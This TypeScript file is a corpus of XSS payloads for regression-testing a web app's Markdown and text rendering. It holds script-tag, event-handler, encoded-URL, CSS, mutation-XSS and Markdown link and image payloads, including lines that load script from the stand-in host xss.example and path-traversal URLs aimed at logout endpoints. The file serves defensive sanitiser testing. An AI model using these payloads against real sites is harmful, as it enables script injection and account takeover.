/**
 * Hostile inputs for every field that is rendered as Markdown or shown as text. Plain data with
 * no test-framework import, so that API and browser tests can push the same payloads through
 * the real endpoints and the real page. Sources: the OWASP XSS filter evasion cheat sheet,
 * published sanitiser bypasses (mutation XSS) and Markdown-specific link tricks.
 */
export type XssPayload = {
  /** Short label for test titles. */
  name: string;
  /** What an attacker types into the field. */
  payload: string;
  /** Harmless text of the payload that must still be visible after rendering. */
  keep?: string;
};

const SVG_ONLOAD_BASE64 = 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'; // <svg onload=alert(1)>
const SCRIPT_BASE64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const JS_DECIMAL = '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)';
const JS_DECIMAL_PADDED =
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)';
const JS_HEX =
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29';

const scriptTags: XssPayload[] = [
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'script src upper case', payload: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { name: 'script mixed case', payload: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with slash attribute', payload: '<script/xss src="https://xss.example/xss.js"></script>' },
  { name: 'script extra open bracket', payload: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'script unclosed', payload: '<script>alert(1)' },
  { name: 'script nested to survive one pass', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script protocol-relative src', payload: '<script src=//xss.example/x.js></script>' },
  { name: 'script with > in attribute', payload: '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'script after null byte', payload: '\u0000<script>alert(1)</script>' },
  { name: 'script breaking out of title', payload: '</title><script>alert(1)</script>' },
  { name: 'script breaking out of textarea', payload: '</textarea><script>alert(1)</script>' },
];

const eventHandlers: XssPayload[] = [
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror without quotes or spaces', payload: '<img/src/onerror=alert(1)>' },
  { name: 'img onmouseover', payload: '<IMG SRC=# onmouseover="alert(1)">' },
  { name: 'img empty src onmouseover', payload: '<IMG SRC= onmouseover="alert(1)">' },
  { name: 'img eval(src)', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'img malformed quotes', payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">' },
  { name: 'img unclosed tag', payload: '<img src=x onerror=alert(1)//' },
  { name: 'img unclosed attribute', payload: '<img src="x onerror=alert(1)//' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg slash onload', payload: '<svg/onload=alert(1)>' },
  { name: 'svg script', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate onbegin', payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'body onload', payload: '<BODY ONLOAD=alert(1)>' },
  { name: 'body onload with junk', payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>' },
  { name: 'input autofocus onfocus', payload: '<input onfocus=alert(1) autofocus>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'video source onerror', payload: '<video><source onerror=alert(1)></video>' },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>XSS</marquee>' },
  { name: 'unknown element onclick', payload: '<x onclick=alert(1)>click me</x>', keep: 'click me' },
  { name: 'div onmouseover', payload: '<div onmouseover="alert(1)">hover</div>', keep: 'hover' },
  { name: 'isindex', payload: '<isindex type=image src=1 onerror=alert(1)>' },
];

const embedding: XssPayload[] = [
  { name: 'iframe javascript src', payload: '<IFRAME SRC="javascript:alert(1);"></IFRAME>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'frameset', payload: '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>' },
  { name: 'object data', payload: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed svg data url', payload: `<EMBED SRC="data:image/svg+xml;base64,${SVG_ONLOAD_BASE64}">` },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'link stylesheet', payload: '<link rel=stylesheet href="javascript:alert(1)">' },
  { name: 'form action', payload: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'button formaction', payload: '<form><button formaction=javascript:alert(1)>X</button></form>' },
  { name: 'math href', payload: '<math href="javascript:alert(1)">CLICKME</math>' },
  {
    name: 'svg xlink:href',
    payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  { name: 'svg set href', payload: '<svg><set href="javascript:alert(1)" attributeName=href>' },
];

const htmlUrls: XssPayload[] = [
  { name: 'a javascript', payload: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a vbscript', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'a data text/html', payload: `<a href="data:text/html;base64,${SCRIPT_BASE64}">x</a>` },
  { name: 'a partial entity', payload: '<a href="javas&#99;ript:alert(1)">x</a>' },
  { name: 'a named colon entity', payload: '<a href="jav&#x61;script&colon;alert(1)">x</a>' },
  { name: 'a encoded tab', payload: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'a leading control char', payload: '<a href="\u0001javascript:alert(1)">x</a>' },
  { name: 'a slash instead of space', payload: '<a/href="javascript:alert(1)">x</a>' },
  { name: 'a unclosed href', payload: '<a href="javascript:alert(1)' },
  { name: 'img javascript src', payload: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img javascript mixed case', payload: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'img decimal entities', payload: `<IMG SRC=${JS_DECIMAL}>` },
  { name: 'img padded decimal entities', payload: `<IMG SRC=${JS_DECIMAL_PADDED}>` },
  { name: 'img hex entities', payload: `<IMG SRC=${JS_HEX}>` },
  { name: 'img embedded tab', payload: `<IMG SRC="jav\tascript:alert('XSS');">` },
  { name: 'img embedded newline entity', payload: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
  { name: 'img leading spaces and meta char', payload: `<IMG SRC=" &#14;  javascript:alert('XSS');">` },
  { name: 'img backticks', payload: '<IMG SRC=`javascript:alert("XSS")`>' },
  {
    name: 'img dynsrc and lowsrc',
    payload: `<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">`,
  },
  {
    name: 'table background',
    payload: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  },
];

const css: XssPayload[] = [
  {
    name: 'style url(javascript:)',
    payload: '<div style="background-image: url(javascript:alert(1))">x</div>',
  },
  { name: 'style expression()', payload: '<div style="width: expression(alert(1))">x</div>' },
  {
    name: 'style css escapes',
    payload:
      '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  },
  { name: 'style behavior', payload: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: 'style element import', payload: "<style>@import 'https://xss.example/xss.css';</style>" },
  {
    name: 'style element list-style-image',
    payload: '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  },
];

const mutation: XssPayload[] = [
  {
    name: 'noscript attribute breakout',
    payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'template content', payload: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'textarea attribute breakout',
    payload: '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  },
  {
    name: 'title attribute breakout',
    payload: '<title><img title="</title><img src onerror=alert(1)>"></title>',
  },
  { name: 'xmp attribute breakout', payload: '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>' },
  { name: 'comment breakout', payload: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'cdata', payload: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', payload: '<? foo="><script>alert(1)</script>">' },
  {
    name: 'math mglyph style namespace confusion',
    payload:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'svg p style namespace confusion',
    payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
];

const markdownLinks: XssPayload[] = [
  { name: 'md link javascript', payload: '[click me](javascript:alert(1))', keep: 'click me' },
  { name: 'md link mixed case', payload: '[click me](JaVaScRiPt:alert(1))', keep: 'click me' },
  { name: 'md link decimal entity', payload: '[click me](&#106;avascript:alert(1))', keep: 'click me' },
  { name: 'md link hex entities', payload: '[click me](&#x6A;avascript&#x3A;alert(1))', keep: 'click me' },
  { name: 'md link named colon entity', payload: '[click me](javascript&colon;alert(1))', keep: 'click me' },
  { name: 'md link padded', payload: '[click me](  javascript:alert(1)  )', keep: 'click me' },
  { name: 'md link angle destination', payload: '[click me](<javascript:alert(1)>)', keep: 'click me' },
  { name: 'md link null byte', payload: '[click me](java\u0000script:alert(1))', keep: 'click me' },
  {
    name: 'md link leading control char',
    payload: '[click me](\u0001javascript:alert(1))',
    keep: 'click me',
  },
  {
    name: 'md link javascript comment newline',
    payload: '[click me](javascript://%0aalert(1))',
    keep: 'click me',
  },
  {
    name: 'md link encoded parentheses',
    payload: '[click me](javascript:alert&#40;1&#41;)',
    keep: 'click me',
  },
  { name: 'md link vbscript', payload: '[click me](vbscript:msgbox(1))', keep: 'click me' },
  { name: 'md link data', payload: `[click me](data:text/html;base64,${SCRIPT_BASE64})`, keep: 'click me' },
  {
    name: 'md link title breakout',
    payload: '[click me](https://example.com "t\\"onmouseover=\\"alert(1)")',
  },
  {
    name: 'md link href breakout',
    payload: '[click me](https://example.com/"onclick="alert(1))',
    keep: 'click me',
  },
  { name: 'md link html label', payload: '[<img src=x onerror=alert(1)>](https://example.com)' },
  { name: 'md reference link', payload: '[click me][ref]\n\n[ref]: javascript:alert(1)', keep: 'click me' },
  {
    name: 'md reference link angle and title',
    payload: '[click me][ref]\n\n[ref]: <javascript:alert(1)> "t"',
  },
  { name: 'md collapsed reference link', payload: '[ref][]\n\n[ref]: JAVASCRIPT:alert(1)', keep: 'ref' },
  { name: 'md autolink javascript', payload: '<javascript:alert(1)>' },
  { name: 'md autolink upper case', payload: '<JAVASCRIPT:alert(1)>' },
  { name: 'md autolink vbscript', payload: '<vbscript:msgbox(1)>' },
  { name: 'md autolink data', payload: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'md bare javascript url', payload: 'javascript:alert(1)' },
];

const markdownImages: XssPayload[] = [
  { name: 'md image javascript', payload: '![alt text](javascript:alert(1))', keep: 'alt text' },
  { name: 'md image svg data url', payload: `![alt text](data:image/svg+xml;base64,${SVG_ONLOAD_BASE64})` },
  {
    name: 'md image png data url',
    payload: '![alt text](data:image/png;base64,iVBORw0KGgo=)',
    keep: 'alt text',
  },
  { name: 'md image alt breakout', payload: '![x"onerror="alert(1)](https://example.com/a.png)' },
  { name: 'md image src breakout', payload: '![x](https://example.com/a.png"onerror="alert(1))' },
  { name: 'md image reference', payload: '![alt text][img]\n\n[img]: javascript:alert(1)', keep: 'alt text' },
  { name: 'md image api path traversal', payload: '![alt text](/api/v1/../../logout)', keep: 'alt text' },
  { name: 'md image protocol-relative', payload: '![alt text](//xss.example/a.png)' },
  { name: 'md image remote host', payload: '![alt text](https://tracker.example/p.gif)', keep: 'alt text' },
  {
    name: 'md image kb attachment traversal',
    payload: '![alt text](/api/v1/kb/attachments/1/../../../auth/logout)',
    keep: 'alt text',
  },
  {
    name: 'md image public attachment with quotes',
    payload: '![alt text](/api/v1/public/kb/attachments/1/download"onerror="alert(1))',
  },
  {
    name: 'md link kb attachment breakout',
    payload: '[file](/api/v1/kb/attachments/1/download"onclick="alert(1))',
    keep: 'file',
  },
];

const markdownBlocks: XssPayload[] = [
  { name: 'md heading with html', payload: '# Title <img src=x onerror=alert(1)>', keep: 'Title' },
  { name: 'md table cell with html', payload: '| a |\n|---|\n| <img src=x onerror=alert(1)> |' },
  { name: 'md task list with html', payload: '- [ ] todo <img src=x onerror=alert(1)>', keep: 'todo' },
  { name: 'md blockquote with script', payload: '> quoted <script>alert(1)</script>', keep: 'quoted' },
  { name: 'md strong with html', payload: '**bold <img src=x onerror=alert(1)>**', keep: 'bold' },
  { name: 'md html block with markdown link', payload: '<div>\n\n[click me](javascript:alert(1))\n\n</div>' },
  { name: 'md code span', payload: '`<script>alert(1)</script>`' },
  { name: 'md fenced html', payload: '```html\n<script>alert(1)</script>\n```' },
  { name: 'md fence info breakout', payload: '```"><script>alert(1)</script>\nx\n```' },
  {
    name: 'md fence info with attribute',
    payload: '```js onclick=alert(1)\nlet x = 1;\n```',
    keep: 'let x = 1;',
  },
  { name: 'md fence class injection', payload: '```js" onmouseover="alert(1)\nx\n```' },
  { name: 'md raw harmless anchor', payload: '<a href="https://example.com">x</a>' },
];

/** Keep adding: a payload that once got through is a regression test. */
export const xssCorpus: readonly XssPayload[] = [
  ...scriptTags,
  ...eventHandlers,
  ...embedding,
  ...htmlUrls,
  ...css,
  ...mutation,
  ...markdownLinks,
  ...markdownImages,
  ...markdownBlocks,
];
